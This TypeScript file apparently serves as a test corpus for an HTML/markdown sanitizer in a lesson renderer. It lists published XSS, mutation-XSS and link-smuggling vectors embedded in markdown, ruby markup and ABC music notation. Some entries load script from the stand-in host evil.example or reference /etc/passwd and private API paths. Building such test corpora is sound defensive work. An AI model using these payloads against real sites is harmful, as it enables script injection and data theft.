/**
 * Texts that have run scripts somewhere: published vectors (OWASP's filter evasion and DOM clobbering sheets, PortSwigger's
 * cheat sheet, DOMPurify's and markdown-it's own tests and issues, Cure53's HTML5 security sheet, the mutation attacks of
 * Heiderich and of Bentkowski), as they are and dressed as what a lesson's text can hold. `xss()` is what they all call.
 */
export interface Vector {
  name: string;
  text: string;
}

const vectors = (family: string, texts: readonly string[]): Vector[] =>
  texts.map((text, index) => ({ name: `${family} ${index + 1}`, text }));

const HTML = vectors('HTML in the text', [
  '<script>xss()</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<ScRiPt >xss()</sCrIpT >',
  '<img src=x onerror=xss()>',
  '<img src="x:gif" onerror="eval(\'xss()\')">',
  '<IMG """><SCRIPT>xss()</SCRIPT>"\\>',
  '<img src=x:alert(alt) onerror=eval(src) alt=xss()>',
  '<img/src="x"/onerror=xss()//',
  '<<SCRIPT>xss();//\\<</SCRIPT>',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:xss()"><text x=20 y=20>押す</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss()</script></svg>#x">',
  '<svg><set attributeName=href to=javascript:xss()>',
  '<math><mtext></p><style><img src onerror=xss()></style></mtext></math>',
  '<math href="javascript:xss()">CLICK</math>',
  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:xss()">CLICK</maction></math>',
  '<body onload=xss()>',
  '<iframe src="javascript:xss()"></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.xss()>"></iframe>',
  '<object data="javascript:xss()"></object>',
  '<embed src="javascript:xss()">',
  '<link rel=stylesheet href="javascript:xss()">',
  '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
  '<base href="javascript:xss();//"><a href="x">押す</a>',
  '<form action="javascript:xss()"><input type=submit></form>',
  '<form><button formaction=javascript:xss()>押す</button></form>',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  '<video><source onerror="xss()"></video>',
  '<audio src=x onerror=xss()>',
  '<marquee onstart=xss()>',
  '<div style="background:url(javascript:xss())">',
  '<style>@import "//evil.example/x.css";</style>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()">押す</a>',
  '<a href="jav\tascript:xss()">押す</a>',
  '<x contenteditable onblur=xss()>押す',
  '<template><script>xss()</script></template>',
  '<img name=getElementById><form id=queries><input name=attributes></form>',
]);

const MUTATION = vectors('Mutation', [
  '<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
  '<listing>&lt;img src=1 onerror=xss()&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=xss()>">',
  '<textarea><p title="</textarea><img src=x onerror=xss()>">',
  '<a title="`<img src=x onerror=xss()>`">`</a>',
  '<svg><foreignObject><p><style><!--</style><img src="--><img src=x onerror=xss()//">',
]);

const LINKS = vectors('Link', [
  '[押す](javascript:xss())',
  '[押す](JaVaScRiPt:xss())',
  '[押す](java&#x0A;script:xss())',
  '[押す](&#106;avascript:xss())',
  '[押す](javascript&colon;xss&lpar;&rpar;)',
  '[押す](\u0001javascript:xss())',
  '[押す](java\u200bscript:xss())',
  '[押す](<java\tscript:xss()>)',
  '[押す](<  javascript:xss()>)',
  '[押す](vbscript:xss())',
  '[押す](data:text/html,<script>xss()</script>)',
  '[押す](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)',
  '[押す](data:image/svg+xml,<svg/onload=xss()>)',
  '[押す](file:///etc/passwd)',
  '[押す](//evil.example/x)',
  '[押す](/\\evil.example/x)',
  '[押す](https:evil.example)',
  '[押す](https://otomichi.example@evil.example/)',
  '[押す](%6A%61%76%61script:xss())',
  '[押す](x:javascript:xss())',
  '[押す](javascript://evil.example/%0Axss())',
  '[押す](/text" onmouseover="xss())',
  '[押す](/text "題" onmouseover="xss()")',
  '[押す](/text "\\" onmouseover=\\"xss()")',
  '[押す][悪1]\n\n[悪1]: javascript:xss()',
  '[押す][悪2]\n\n[悪2]: <java\nscript:xss()> "題"',
  '[悪3]\n\n[悪3]: data:text/html,<script>xss()</script>',
  '<javascript:xss()>',
  '<JAVASCRIPT:xss()>',
  '<data:text/html,x>',
  '[![絵](x)](javascript:xss())',
  '[<img src=x onerror=xss()>](/text)',
]);

const PICTURES = vectors('Picture', [
  '![絵](javascript:xss())',
  '![絵](https://evil.example/track.png)',
  '![絵](//evil.example/track.png)',
  '![絵](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9eHNzKCk+)',
  '![絵](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==)',
  '![x" onerror="xss()](/media/content/none.svg)',
  '![絵](/media/content/none.svg "題\\" onerror=\\"xss()")',
  '![<img src=x onerror=xss()>](/media/content/none.svg)',
  '![絵](/media/../api/lessons)',
  '![絵][外4]\n\n[外4]: https://evil.example/track.png',
  '![絵](/api/private/users)',
]);

const PLACES = vectors('Place in a text', [
  '{<img src=x onerror=xss()>|よみ}',
  '{漢字|<script>xss()</script>}',
  '{" onmouseover="xss()|よみ}',
  '{[押す](javascript:xss())|よみ}',
  '| 列 |\n|---|\n| <img src=x onerror=xss()> |',
  '| <svg onload=xss()> |\n|:-:|\n| [押す](javascript:xss()) |',
  '# <img src=x onerror=xss()>\n\n## <svg onload=xss()>',
  '```<img src=x onerror=xss()>\ncode\n```',
  '```js" onmouseover="xss()\ncode\n```',
  '```html\n<script>xss()</script>\n```',
  '`<img src=x onerror=xss()>`',
  '- <script>xss()</script>\n  1. <svg onload=xss()>',
  '> <img src=x onerror=xss()>\n>\n> ```abc\n> X:1\n> K:C\n> "^<img src=x onerror=xss()>"C\n> ```',
  '&lt;img src=x onerror=xss()&gt; &#60;script&#62;xss()&#60;/script&#62;',
  '＜script＞xss()＜/script＞ \u202e<script>xss()</script>',
]);

const abc = (head: string, body: string, kind = 'abc') =>
  `\`\`\`${kind}\nX:1\n${head}\nM:4/4\nL:1/4\nK:C\n${body}\n\`\`\``;

const SCORES = vectors('Score', [
  abc('T:<img src=x onerror=xss()>', 'CDEF|'),
  abc('T:</text><script>xss()</script>', 'CDEF|'),
  abc('T:x\nT:<svg onload=xss()>\nC:<img src=x onerror=xss()>\nR:<script>xss()</script>', 'CDEF|'),
  abc('T:x', '"^<img src=x onerror=xss()>"C "_<svg onload=xss()>"D "<script>xss()</script>"E F|'),
  abc('T:x', 'CDEF|\nw: <img src=x onerror=xss()> <script>xss()</script> a b'),
  abc('T:x', 'CDEF|\nW: <img src=x onerror=xss()>\nW: </svg><script>xss()</script>'),
  abc(
    'T:x\nN:<img src=x onerror=xss()>\nO:<svg onload=xss()>\nZ:<script>xss()</script>\nH:<img src=x onerror=xss()>',
    'CDEF|',
  ),
  abc('T:x\n%%text <img src=x onerror=xss()>\n%%center <script>xss()</script>', 'CDEF|'),
  abc('T:x\n%%begintext\n<img src=x onerror=xss()>\n%%endtext', 'CDEF|'),
  abc(
    'T:x\n%%titlefont "x; background:url(javascript:xss())" 20\n%%vocalfont x"onload="xss() 12',
    'CDEF|\nw: a b c d',
  ),
  abc(
    'T:x\n%%abc-copyright <img src=x onerror=xss()>\n%%header <script>xss()</script>\n%%footer <svg onload=xss()>',
    'CDEF|',
  ),
  abc('T:x\nV:1 name="<img src=x onerror=xss()>" subname="<svg onload=xss()>"', '[V:1] CDEF|'),
  abc('T:x\nP:<img src=x onerror=xss()>\nQ:"<script>xss()</script>" 1/4=80', 'CDEF|'),
  abc('T:x\n%%beginsvg\n<svg><script>xss()</script></svg>\n%%endsvg', 'CDEF|'),
  abc('T:x\n%%beginps\n<script>xss()</script>\n%%endps\nI:<img src=x onerror=xss()>', 'CDEF|'),
  abc('T:x', '!<img src=x onerror=xss()>!C !"><script>xss()</script>!D E F|'),
  abc('T:<img src=x onerror=xss()>', '"^<img src=x onerror=xss()>"[E,B,EGBe]4|', 'abc guitar'),
  '```abc\n<img src=x onerror=xss()>\n<script>xss()</script>\n```',
  '```abc <img src=x onerror=xss()>\nX:1\nK:C\nCDEF|\n```',
  '```abc guitar" onmouseover="xss()\nX:1\nK:C\nCDEF|\n```',
]);

export const CORPUS: readonly Vector[] = [...HTML, ...MUTATION, ...LINKS, ...PICTURES, ...PLACES, ...SCORES];
